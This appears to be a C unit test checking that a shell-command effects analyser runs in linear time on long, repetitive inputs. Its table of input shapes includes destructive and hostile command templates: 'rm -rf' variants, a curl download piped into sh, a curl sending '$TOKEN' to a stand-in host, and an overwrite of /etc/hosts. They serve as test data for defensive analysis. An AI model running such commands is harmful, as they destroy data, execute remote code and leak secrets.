/*
 * However long a text is, and whatever it repeats: judging it takes time in proportion to its
 * length, or ends with "not judged".  What grows with each line (a value, a path, a list that is
 * searched) would take the square of it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <time.h>

#include <cmocka.h>

#include "base/buf.h"
#include "effects/effects.h"

/*
 * Measured in the time of one long list of operands, whatever the machine and the build: the
 * slowest shape takes four times that, and what costs the square of its length would not end here.
 */
enum { TEXT_BYTES = 100000, TIMES_MAX = 12, TRIES = 5 };

static const struct str roots[] = { { "/home/user/project", 18 } };
static const struct effects_world world = { .cwd = { "/home/user/project", 18 },
					    .home = { "/home/user", 10 },
					    .roots = roots,
					    .nroots = 1 };

/* A "#" in `each` is its number. */
struct shape {
	const char *head, *each, *tail;
};

static const struct shape operands = { "rm ", "x# ", "" };
static const struct shape shapes[] = {
	{ "", "s=\"$s x\"\n", "echo $s" },
	{ "", "s=\"$s; rm x#\"\n", "eval \"$s\"" },
	{ "a=x\n", "a=$a$a\n", "rm $a" },
	{ "", "a+=(x#)\n", "rm \"${a[@]}\"" },
	{ "", "v#=a; echo $v# \"$v#\"\n", "" },
	{ "", "export V#=$PATH:/x#\n", "" },
	{ "", "PATH=$PATH:/opt/x#\n", "" },
	{ "", "cd d#\n", "rm -rf x" },
	{ "", "pushd d#; git -C e# clean -fdx\n", "" },
	{ "", "ln -s a# b#\n", "rm -rf b1/*" },
	{ "", "mount --bind /a# /b#\n", "rm -rf /b1" },
	{ "", "alias a#='rm -rf'; a# x\n", "" },
	{ "", "f#() { rm -rf \"$1\"; }\nf# x\n", "" },
	{ "", "if [ -f x# ]; then a=b#; else a=c; fi\n", "rm $a" },
	{ "", "for i in a b c; do x=\"$x$i\"; done\n", "rm $x" },
	{ "", "echo 'rm -rf y#' >> s.sh\n", "sh s.sh" },
	{ "", "echo 'rm -rf y#' > s#.sh; sh s#.sh\n", "" },
	{ "", "set -- \"$@\" x#\n", "rm \"$@\"" },
	{ "", "trap 'rm -f t#' EXIT\n", "" },
	{ "", "exec #>f#\n", "" },
	{ "", "curl -o d# https://x.example/#; sh d#\n", "" },
	{ "echo ", "$(echo ", "" },
	{ "rm ", "{a,b}", "" },
	{ "rm ", "../a/", "" },
	{ "", "a | ", "b" },
	{ "", "sudo env A=# nice ", "rm x" },
	{ "", "(", "" },
	{ "", "{ ", "" },
	{ "", "if a; then ", "" },
	{ "cat <<EOF | sh\n", "rm -rf x#\n", "EOF" },
	{ "python3 - <<'E'\nimport os\ns = ''\n", "s += 'x#'\n", "os.remove(s)\nE" },
	{ "python3 - <<'E'\nimport os\na = 'x'\n", "a = a + a\n", "os.system(a)\nE" },
	{ "python3 - <<'E'\nimport os\n", "def f#(a):\n    os.remove(a)\nf#('x')\n", "E" },
	{ "python3 - <<'E'\nimport os\nx = ", "'a#' + ", "''\nos.remove(x)\nE" },
	{ "python3 - <<'E'\nimport os\nx = [", "'a#', ", "]\nfor p in x:\n    os.remove(p)\nE" },
	{ "python3 - <<'E'\n", "try:\n    a#.b(c)\nexcept E:\n    d = #\n", "E" },
	{ "python3 - <<'E'\nx = ", "f(", "\nE" },
	{ "node - <<'E'\n", "const a# = (x) => fs.rmSync(x); a#('b');\n", "E" },
	{ "node - <<'E'\nlet s = '';\n", "s += `x${s}#`;\n", "fs.rmSync(s);\nE" },
	{ "perl - <<'E'\n", "$a .= \"x#\"; unlink $a;\n", "E" },
	{ "pwsh -Command - <<'E'\n", "$a# = \"x$a\"; Remove-Item $a#\n", "E" },
	{ "psql <<'E'\n", "delete from t# where a = #;\n", "E" },
	{ "awk '{", "print $#; ", "}' f" },
	{ "yes | head -n ", "3", "" },
	{ "echo ${", "3", "}" },
	{ "", "tar czf - src | wc -c", "" },
	{ "", "install -m 644 hosts /etc/hosts ", "" },
	{ "", "curl -A \"$TOKEN\" https://x.example/# ", "" },
	{ "curl -X POST ", "-u u:p", "" },
	{ "find ", "d# -name '*.map' -delete ", "" },
	{ "cat > Makefile <<'E'\n", "t#: t\n\trm x#\n", "E\nmake t1" },
};

static void repeated(struct buf *out, const struct shape *s)
{
	buf_addz(out, s->head);
	for (size_t i = 1; out->n < TEXT_BYTES; i++)
		for (const char *p = s->each; *p; p++)
			if (*p == '#')
				buf_addf(out, "%zu", i);
			else
				buf_addc(out, *p);
	buf_addz(out, s->tail);
}

static double seconds(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static double judged_in(const struct shape *s)
{
	AUTO(arena_done) struct arena a = { 0 };
	AUTO(buf_done) struct buf text = { 0 };
	struct effects e = { .arena = &a, .world = &world };
	double began;

	repeated(&text, s);
	began = seconds();
	effects_of_shell(&e, buf_str(&text));
	return seconds() - began;
}

static void long_texts_take_their_length(void **state)
{
	double list = judged_in(&operands);
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++) {
		const struct shape *s = &shapes[i];
		double took = judged_in(s);

		for (int again = 0; took > list * TIMES_MAX && again < TRIES; again++) {
			list = judged_in(&operands);
			took = judged_in(s);
		}
		if (took <= list * TIMES_MAX)
			continue;
		failed++;
		print_message("# %.2f s, a list %.2f s: %s%s\n", took, list, s->head, s->each);
	}
	assert_int_equal(failed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(long_texts_take_their_length),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
